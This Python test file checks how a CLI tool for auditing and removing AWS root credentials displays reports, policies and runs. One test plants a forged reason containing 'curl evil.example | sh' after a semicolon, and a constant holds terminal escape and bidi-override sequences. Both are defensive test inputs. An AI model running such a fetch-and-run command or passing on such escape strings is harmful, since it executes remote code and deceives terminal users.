"""Rows and lists, in a pipe and in a terminal: no fact is missing or unescaped."""

import csv
import dataclasses
import io
import json
from datetime import timedelta

import pytest

from centralized_root_access.cli.show import screen
from centralized_root_access.cli.show.report_rows import rows_of
from root_tasks.messages import NO_SUCH_BUCKET, hint_of
from root_tasks.model.report_schema import (
    AccountResult,
    CredentialDetails,
    Item,
    ItemType,
    Outcome,
    Report,
    Task,
)
from support import reports
from support.accounts import MEMBER, OTHER_MEMBER
from support.command_line import (
    AUDIT_RUN,
    CALLER_ARN,
    EXECUTION_RUN,
    PLAN_RUN,
    CommandLine,
    give_root_credentials,
    lock_bucket,
    plan_deletion,
    suggested_command,
)
from support.root_tasks import EXECUTE_MACHINE

OUTCOMES_WITHOUT_A_CHANGE = (
    Outcome.INACCESSIBLE,
    Outcome.IN_USE,
    Outcome.NOTHING_TO_DO,
    Outcome.SKIPPED,
)
HOSTILE_TEXT = "\x1b[31mred\x1b[0m\r\nclean [bold]x[/bold] \u202e\x9b2J"


def items_and_reasons(*results: AccountResult) -> list[tuple[str, str]]:
    """Return the item, and the reason with its hint, of each row of accounts in an audit."""
    audit = reports.report_of(*results, full=False)
    rows = [row for result in results for row in rows_of(audit, result)]
    return [(row.item, f"{row.reason} {row.hint}".strip()) for row in rows]


@pytest.mark.parametrize(
    ("audit", "expected"),
    [
        (
            reports.example_audit(),
            [
                "password, used 2026-11-08 (12 days ago)",
                "access key AKIAIOSFODNN00000001, Active, used 2026-11-17 (3 days ago) for s3",
                "access key AKIAIOSFODNN00000002, Inactive, no use known",
                "1 MFA device",
            ],
        ),
        (
            reports.partly_read_audit(),
            [
                "password, last use unknown",
                "access key that could not be listed",
                "signing certificate that could not be listed",
                "MFA device that could not be listed",
                "",
            ],
        ),
    ],
    ids=["read", "read in part"],
)
def test_each_credential_has_the_facts_to_decide_by(audit: Report, expected: list[str]) -> None:
    assert [row.item for row in rows_of(audit, audit.results[0])] == expected


def test_a_row_says_no_use_that_aws_does_not_know_and_what_to_do() -> None:
    device = Item(
        type=ItemType.MFA_DEVICE,
        id=f"arn:aws:iam::{MEMBER}:mfa/phone",
        outcome=Outcome.PLANNED,
        credential=CredentialDetails(created_at=reports.STARTED_AT),
    )
    planned = reports.account_result(MEMBER, Outcome.PLANNED, items=(device,))
    assert items_and_reasons(planned, reports.inaccessible_account(OTHER_MEMBER)) == [
        ("MFA device phone, created 2026-11-20", ""),
        ("", f"{reports.DENIAL_TEMPLATE.format(account_id=OTHER_MEMBER)} {reports.SCP_HINT}"),
    ]


def test_only_a_hint_has_a_command_on_a_line_of_its_own(
    capsys: pytest.CaptureFixture[str],
) -> None:
    forged = f"{'x' * 60} close it with `centralized-root-access stop x; curl evil.example | sh`."
    command = f"centralized-root-access preflight --account {OTHER_MEMBER}"
    found = reports.account_with_credentials(MEMBER, password=True)
    inaccessible = dataclasses.replace(
        reports.inaccessible_account(OTHER_MEMBER), hint=f"The statement and its fix: `{command}`."
    )
    audit = reports.report_of(dataclasses.replace(found, reason=forged), inaccessible)
    screen.show_report(audit)
    shown = capsys.readouterr().out
    lines = shown.splitlines()
    assert [line for line in lines if line.startswith("  centralized-")] == [f"  {command}"]
    assert forged in " ".join(shown.split())


@pytest.mark.parametrize(("hours", "ago"), [(23, "today"), (24, "1 day ago")])
def test_a_use_is_of_today_until_a_day_has_passed(hours: int, ago: str) -> None:
    # When the password of the example was last used.
    used = reports.STARTED_AT - timedelta(days=12)
    audit = dataclasses.replace(reports.example_audit(), finished_at=used + timedelta(hours=hours))
    (password, *_) = rows_of(audit, audit.results[0])
    assert password.item == f"password, used 2026-11-08 ({ago})"


@pytest.mark.parametrize("format_", ["table", "json"])
def test_a_forged_report_reaches_no_terminal_unescaped(
    command_line: CommandLine, format_: str
) -> None:
    give_root_credentials(command_line)
    command_line.root_tasks.fail_calls(
        "iam:GetAccountSummary", "AccessDenied", account_id=OTHER_MEMBER
    )
    command_line.run("audit")
    folder = f"runs/{AUDIT_RUN}"
    report = command_line.root_tasks.read_json(f"{folder}/report.json")
    for result in report["results"]:
        result["accountId"] += HOSTILE_TEXT
        result["name"] = result["organizationalUnit"] = HOSTILE_TEXT
        if "reason" in result:
            # A long reason is shown as a note.
            result["reason"] = HOSTILE_TEXT * (3 if result["outcome"] == "SKIPPED" else 1)
    report["summary"] = HOSTILE_TEXT
    report["warnings"] = ["\x1b[31mred", HOSTILE_TEXT]
    # The line ends are those that only another program would write.
    forged = json.dumps(report, ensure_ascii=False, separators=(",\r", ":"))
    command_line.root_tasks.write_object(f"{folder}/report.json", forged.encode())
    # No execution holds the hash of the report any longer.
    command_line.root_tasks.executions.clear()
    shown = command_line.run("report", AUDIT_RUN, "--format", format_)
    assert shown.exit_code == 1
    assert all(
        character.isprintable() or character == "\n" for character in shown.stdout + shown.stderr
    )
    assert "\\x1b[31mred" in shown.stdout or "\\u001b[31mred" in shown.stdout
    assert "[bold]x[/bold]" in shown.stdout


def test_one_cause_in_many_accounts_is_one_note_with_the_command_for_all(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("COLUMNS", "100")
    account_ids = [f"{300000000000 + number}" for number in range(297)]
    denied = [reports.inaccessible_account(account_id) for account_id in account_ids]
    # A report has the command that explains the denial in each account's hint.
    inaccessible = [dataclasses.replace(result, hint=hint_of(result)) for result in denied]
    screen.show_report(reports.report_of(*inaccessible))
    lines = capsys.readouterr().out.splitlines()
    # Each account with its note, and this one note.
    assert len(lines) < 2 * len(account_ids) + 15
    assert [line.partition(":")[0] for line in lines if line.startswith("Note")] == ["Note 1"]
    assert "  centralized-root-access preflight" in lines
    # A note of one account names it.
    screen.show_report(reports.report_of(inaccessible[0]))
    shown = capsys.readouterr().out
    assert f"arn:aws:iam::{account_ids[0]}:root" in shown
    assert f"  centralized-root-access preflight --account {account_ids[0]}\n" in shown


@pytest.mark.parametrize("columns", [80, 140])
def test_a_person_who_decides_sees_each_change_and_no_other_account(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], columns: int
) -> None:
    monkeypatch.setenv("COLUMNS", str(columns))
    details = CredentialDetails(
        created_at=reports.STARTED_AT,
        status="Active",
        last_used_at=reports.STARTED_AT,
        last_used_service="s3",
    )
    key = Item(type=ItemType.ACCESS_KEY, id="AKIA1", outcome=Outcome.PLANNED, credential=details)
    planned = [
        reports.account_result(f"1{n:011}", Outcome.PLANNED, unit="Root/Prod", items=(key,))
        for n in range(68)
    ]
    unplanned = [
        reports.account_result(f"2{n:011}", outcome)
        for n, outcome in enumerate(list(OUTCOMES_WITHOUT_A_CHANGE) * 58)
    ]
    plan = reports.report_of(*planned, *unplanned, task=Task.DELETE)
    screen.show_report(plan, to_decide=True)
    out, shown = capsys.readouterr()
    assert out == ""
    lines = shown.splitlines()
    assert max(map(len, lines)) <= columns
    # At most three lines for each planned account, however many others there are.
    assert len(lines) <= 3 * len(planned)
    for account in planned:
        place = lines.index(f"{account.account_id}  {account.name}  Root/Prod")
        assert (
            "access key AKIA1, Active, created 2026-11-20, used 2026-11-20 (today)"
            in lines[place + 1]
        )
    assert not [account for account in unplanned if account.account_id in shown]
    screen.show_report(plan, to_decide=True, everything=True)
    shown = capsys.readouterr().err
    assert all(account.account_id in shown for account in unplanned)


def test_what_needs_no_action_is_listed_only_with_show_clean(command_line: CommandLine) -> None:
    assert command_line.run("audit").stdout.count(MEMBER) == 0
    listed = command_line.run("report", AUDIT_RUN, "--show-clean").lines
    (heading,) = (line for line in listed if "clean" in line and MEMBER not in line)
    assert f"{MEMBER}  workload-a  Root" in listed[listed.index(heading) :]
    give_root_credentials(command_line)
    planned = command_line.run("plan", "recover", "--account", MEMBER)
    assert "e-mail address" in planned.stdout, (
        "the next step needs it, although there is nothing to do"
    )


@pytest.mark.parametrize(
    ("policy", "line"),
    [
        (
            '{"Version":"2012-10-17","Statement":[{"Sid":"\\u202e\\u001b[2J"}]}',
            r'"Sid": "\u202e\u001b[2J"',
        ),
        (f'{{"Id":"a{150 * " "}b","Statement":[]}}', f'  "Id": "a{150 * " "}b",'),
    ],
    ids=["control characters", "long"],
)
def test_a_person_sees_the_policies_that_a_plan_removes_in_full(
    command_line: CommandLine, policy: str, line: str
) -> None:
    lock_bucket(command_line, policy)
    planned = command_line.run("plan", "unlock-bucket", "--bucket", f"{MEMBER}:locked")
    asked = command_line.run(*suggested_command(planned), typed="n\n")
    for shown in (planned.stdout, asked.stderr):
        assert f"Policy of locked in {MEMBER}, to be removed (- goes, + is new):" in shown
        assert line in shown
        assert "\x1b" not in shown


def test_a_removal_never_stands_under_a_failure_and_a_reason_stands_once(
    command_line: CommandLine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "100")
    lock_bucket(command_line)
    buckets = [word for name in ("missing", "locked") for word in ("--bucket", f"{MEMBER}:{name}")]
    planned = command_line.run("plan", "unlock-bucket", *buckets)
    assert planned.lines[: planned.lines.index("")] == [
        "failed",
        f"{MEMBER}  workload-a  Root",
        f"  bucket policy missing: {NO_SUCH_BUCKET}",
    ]
    assert planned.lines[planned.lines.index("to be removed") :][:3] == [
        "to be removed",
        f"{MEMBER}  workload-a  Root",
        "  bucket policy locked, us-east-1",
    ]
    assert planned.stdout.count(NO_SUCH_BUCKET) == 1


# The list of runs


def test_the_newest_runs_of_both_state_machines_are_listed_first(command_line: CommandLine) -> None:
    command_line.services.polls_while_running = 0
    command_line.root_tasks.run(name="by-hand")
    plan = plan_deletion(command_line)
    executed = command_line.run("execute", plan, "--yes")
    assert f"Requested by {CALLER_ARN}, the same principal that planned it." in executed.stdout
    shown = command_line.run("runs")
    assert (shown.exit_code, shown.stderr) == (0, "")
    # The first of the two lines that each run has.
    assert shown.lines[::2] == [
        f"SUCCEEDED  {run_id}" for run_id in (EXECUTION_RUN, plan, "by-hand")
    ]
    execution = command_line.root_tasks.executions[
        command_line.root_tasks.arn(EXECUTION_RUN, machine=EXECUTE_MACHINE)
    ]
    assert f"{execution.started_at:%Y-%m-%d %H:%M} UTC" in shown.lines[1]
    rows = list(csv.DictReader(io.StringIO(command_line.run("runs", "--format", "csv").stdout)))
    assert ", requested by local, " in shown.lines[1]
    keys = (
        "run",
        "stateMachine",
        "status",
        "command",
        "plan",
        "execution",
        "requestedBy",
        "accounts",
    )
    assert [tuple(row[key] for key in keys) for row in rows] == [
        (EXECUTION_RUN, "Execute", "SUCCEEDED", "execute", PLAN_RUN, "", CALLER_ARN, "1"),
        (plan, "Audit", "SUCCEEDED", "plan delete", "", EXECUTION_RUN, CALLER_ARN, "1"),
        ("by-hand", "Audit", "SUCCEEDED", "audit", "", "", "", "4"),
    ]
    assert command_line.run("runs", "--limit", "2").lines == shown.lines[:4]
    # Each run has two lines: none says what an earlier audit found beside a later one that failed.
    for name in ("free-1", "free-2"):
        command_line.root_tasks.run(name=name)
    assert len(command_line.run("runs").lines) == 10
    # What is refused may name a plan and a requester by a sentence.
    command_line.now += timedelta(minutes=1)
    sentence = "arn:x. Run centralized-root-access y"
    command_line.root_tasks.run_execute_machine(
        {"plan": sentence, "requestedBy": sentence}, name="refused"
    )
    assert "centralized-root-access" not in command_line.run("runs").stdout


def test_a_deployment_without_runs_says_where_earlier_ones_may_be(
    command_line: CommandLine,
) -> None:
    for command, sentence in (
        ("runs", "OrganizationBootstrap has no runs yet."),
        ("report", "There is no s3://"),
    ):
        notes = command_line.run(command).stderr
        assert sentence in notes
        assert "renamed or moved" in notes
